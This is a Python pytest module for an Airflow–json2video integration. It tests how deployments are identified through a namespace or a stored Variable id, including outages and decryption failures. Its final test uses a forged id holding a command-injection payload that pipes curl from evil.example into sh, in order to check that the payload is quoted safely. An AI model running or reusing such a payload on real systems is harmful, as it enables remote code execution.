"""How two deployments with one account are distinguished: by a namespace, or an id in the metadata database."""

from __future__ import annotations

import threading
from dataclasses import replace
from types import SimpleNamespace

import pytest

from airflow_json2video import airflow_variables
from airflow_json2video import deployment as module
from airflow_json2video.core.identity import Stamp, TaskIdentity, add_stamp, deployment_from_id
from airflow_json2video.deployment import (
    ID_VARIABLE,
    get_deployment,
    get_or_create_deployment,
    require_same_deployment,
)
from airflow_json2video.exceptions import Json2VideoError
from airflow_json2video.hooks.json2video import Json2VideoHook
from airflow_json2video.submission.lookup import require_no_other_render

TI = SimpleNamespace()


class Log(list):
    def info(self, event, *args):
        self.append(event % args)

    warning = info


@pytest.fixture(autouse=True)
def deployment(monkeypatch):
    """The database is not replaced here."""
    monkeypatch.setattr(module, "read_variable", airflow_variables.read_variable)


@pytest.fixture
def database(airflow_db):
    """Airflow's own database, without an id before and after."""

    def clear():
        from airflow.models.variable import Variable
        from airflow.utils.session import create_session

        with create_session() as session:
            session.query(Variable).filter_by(key=ID_VARIABLE).delete()

    clear()
    yield airflow_db
    clear()


@pytest.fixture
def other_fernet(monkeypatch):
    """Replace the Fernet key without rotating it."""

    def replace():
        from airflow.models import crypto
        from cryptography.fernet import Fernet

        monkeypatch.setenv("AIRFLOW__CORE__FERNET_KEY", Fernet.generate_key().decode())
        forget = getattr(crypto.get_fernet, "cache_clear", None)
        if forget is not None:
            forget()
        else:
            monkeypatch.setattr(crypto, "_fernet", None)

    yield replace
    monkeypatch.undo()
    from airflow.models import crypto

    forget = getattr(crypto.get_fernet, "cache_clear", None)
    if forget is not None:
        forget()
    else:
        crypto._fernet = None


class Api:
    """The Variables of the Execution API: it overwrites, and responds "not found" for what it cannot read.

    :ivar reachable: whether the database behind it answers. :ivar lists: whether it can be asked for names (3.3).
    """

    def __init__(self):
        self.values = {}
        self.unreadable = set()
        self.reachable = True
        self.puts = 0
        self.lock = threading.Lock()

    def read(self, key):
        with self.lock:
            return self.values.get(key) if self.reachable and key not in self.unreadable else None

    def add(self, key, value, *, description):
        with self.lock:
            self.values[key] = value
            self.puts += 1

    def answers(self, ti):
        if not self.reachable:
            raise RuntimeError("API_SERVER_ERROR 500")
        return True


@pytest.fixture
def api(monkeypatch):
    api = Api()
    monkeypatch.setattr(module, "read_variable", api.read)
    monkeypatch.setattr(module, "add_variable", api.add)
    monkeypatch.setattr(module, "attempt_is_current", api.answers)
    monkeypatch.setattr(module, "variables_are_overwritten", lambda: True)
    return api


def identify(namespace=None, *, log=None, sleep=lambda seconds: None, **more):
    return get_or_create_deployment(namespace, ti=TI, log=Log() if log is None else log, sleep=sleep, **more)


# --- in the database ----------------------------------------------------------------------------


def test_an_id_is_created_once_and_the_same_for_every_process_with_that_database(database):
    log = Log()
    assert get_deployment(None) is None
    first = identify(log=log)
    assert first.startswith("id:")
    assert len(first) > 20
    assert "had no id" in log[0]
    assert identify(log=log) == first == get_deployment(None)
    assert len(log) == 1


def test_a_namespace_overrides_the_id_and_needs_no_database():
    assert identify("staging") == get_deployment("staging") == "namespace:staging"


def test_processes_that_create_the_id_together_share_one(database):
    airflow_variables.add_variable(ID_VARIABLE, "first", description="")
    airflow_variables.add_variable(ID_VARIABLE, "second", description="")
    assert identify() == "id:first"


def test_an_id_that_cannot_be_decrypted_is_not_replaced(database, other_fernet):
    other_fernet()
    first = identify()
    other_fernet()
    waits = []
    with pytest.raises(
        Json2VideoError, match=r"cannot be decrypted.*rotate-fernet-key.*'namespace'.*Nothing was sub"
    ) as no:
        identify(sleep=waits.append)
    assert no.value.retryable
    assert sum(waits) == 60
    with pytest.raises(Json2VideoError):
        get_deployment(None)
    assert first.startswith("id:")


def test_a_database_that_does_not_respond_does_not_count_as_empty(monkeypatch):
    def broken(key):
        raise OSError("no route to the database")

    monkeypatch.setattr(module, "read_variable", broken)
    with pytest.raises(Json2VideoError, match="no route to the database") as no:
        identify()
    assert no.value.retryable


def test_a_short_outage_does_not_fail_the_attempt(monkeypatch):
    answers = iter([OSError("away"), OSError("away"), "abc"])

    def read(key):
        answer = next(answers)
        if isinstance(answer, Exception):
            raise answer
        return answer

    monkeypatch.setattr(module, "read_variable", read)
    assert identify() == "id:abc"


def test_a_changed_id_fails_before_anything_is_paid_for(database):
    mine = identify()
    require_same_deployment(None, mine)
    require_same_deployment("staging", "namespace:staging")
    with pytest.raises(Json2VideoError, match=r"has changed.*Nothing was submitted") as no:
        require_same_deployment(None, "id:before")
    assert no.value.retryable


def test_a_short_outage_right_before_the_post_does_not_fail_the_attempt(monkeypatch):
    answers = iter([OSError("away"), "abc"])

    def read(key):
        answer = next(answers)
        if isinstance(answer, Exception):
            raise answer
        return answer

    monkeypatch.setattr(module, "read_variable", read)
    require_same_deployment(None, "id:abc", sleep=lambda seconds: None)


def test_no_id_is_created_in_multi_team_mode(api, monkeypatch):
    monkeypatch.setattr(module, "is_multi_team", lambda: True)
    with pytest.raises(Json2VideoError, match="multi-team"):
        identify()
    assert api.puts == 0
    api.values[ID_VARIABLE] = "for all teams"
    assert identify() == "id:for all teams"


# --- behind the Execution API, which only overwrites --------------------------------------------


def test_tasks_that_create_the_id_together_through_the_api_share_one(api):
    together = threading.Barrier(8)
    found = []

    def task():
        met = []

        def sleep(seconds):
            if not met:  # all have seen that it does not exist, and continue at the same moment
                met.append(1)
                together.wait(10)
            threading.Event().wait(seconds / 30)

        found.append(identify(sleep=sleep))

    threads = [threading.Thread(target=task) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(found) == 8
    assert set(found) == {f"id:{api.values[ID_VARIABLE]}"}


def test_an_id_is_not_overwritten_while_the_api_reports_not_found_during_an_outage(api):
    api.values[ID_VARIABLE] = "ours"
    api.reachable = False
    with pytest.raises(Json2VideoError, match="API_SERVER_ERROR") as no:
        identify()
    assert no.value.retryable
    assert (api.values[ID_VARIABLE], api.puts) == ("ours", 0)


def test_an_id_that_appears_during_the_confirmation_is_used(api):
    api.values[ID_VARIABLE] = "ours"
    api.unreadable.add(ID_VARIABLE)
    assert identify(sleep=lambda seconds: api.unreadable.clear()) == "id:ours"
    assert api.puts == 0


def test_an_id_that_cannot_be_read_after_it_was_written_is_unknown(api):
    api.unreadable.add(ID_VARIABLE)
    with pytest.raises(Json2VideoError, match="'namespace'"):
        identify()


# --- what the Execution API answers -------------------------------------------------------------


@pytest.fixture
def supervisor(monkeypatch):
    """The supervisor of a task's process, with prepared responses."""
    task_runner = pytest.importorskip("airflow.sdk.execution_time.task_runner")
    from airflow.sdk.execution_time import comms

    class Supervisor:
        def __init__(self):
            self.answers = {}

        def send(self, message):
            answer = self.answers[type(message).__name__]
            if isinstance(answer, Exception):
                raise answer
            return answer

        def refuses(self, name, error, *, raises=True):
            from airflow.sdk.exceptions import AirflowRuntimeError, ErrorType

            response = comms.ErrorResponse(error=ErrorType[error], detail={"status_code": 500})
            self.answers[name] = AirflowRuntimeError(response) if raises else response

    supervisor = Supervisor()
    monkeypatch.setattr(task_runner, "SUPERVISOR_COMMS", supervisor, raising=False)
    return supervisor


@pytest.mark.parametrize("raises", [True, False])
def test_not_found_is_distinguished_from_an_unavailable_api(supervisor, raises):
    from airflow.sdk.execution_time import comms

    supervisor.answers["GetVariable"] = comms.VariableResult(key=ID_VARIABLE, value="ours")
    assert get_deployment(None) == "id:ours"
    supervisor.refuses("GetVariable", "API_SERVER_ERROR", raises=raises)
    with pytest.raises(Json2VideoError, match="'namespace'") as no:
        get_deployment(None)
    assert no.value.retryable
    supervisor.refuses("GetVariable", "VARIABLE_NOT_FOUND", raises=raises)
    if hasattr(comms, "GetVariableKeys"):
        supervisor.answers["GetVariableKeys"] = comms.VariableKeysResult(keys=[f"{ID_VARIABLE}_2"], total_entries=1)
    assert get_deployment(None) is None


def test_a_variable_that_is_listed_but_not_found_cannot_be_read(supervisor):
    from airflow.sdk.execution_time import comms

    if not hasattr(comms, "GetVariableKeys"):
        pytest.skip("Airflow 3.0 to 3.2 cannot be asked for the names of Variables")
    supervisor.refuses("GetVariable", "VARIABLE_NOT_FOUND", raises=False)
    supervisor.answers["GetVariableKeys"] = comms.VariableKeysResult(keys=[ID_VARIABLE], total_entries=1)
    with pytest.raises(Json2VideoError, match=r"exists but its value cannot be read.*rotate-fernet-key") as no:
        get_deployment(None)
    assert no.value.retryable
    supervisor.refuses("GetVariableKeys", "API_SERVER_ERROR")
    with pytest.raises(Json2VideoError, match="is unknown"):
        get_deployment(None)


def test_the_id_in_a_stamp_is_quoted_in_the_suggested_command(connection):
    identity = TaskIdentity("", "d", "r", "t", -1, 0)
    forged = replace(identity, deployment=deployment_from_id("abc; curl evil.example | sh"))
    mark = Stamp.of(forged, "f", attempt=1)
    hook = Json2VideoHook(connection)
    hook.submit_movie(add_stamp({"scenes": [{"duration": 1}]}, mark))
    with pytest.raises(Json2VideoError) as refused:
        require_no_other_render(hook.client, {identity.name_key}, since=None)
    assert "airflow variables set json2video_deployment_id 'abc; curl evil.example | sh'. If not" in str(refused.value)
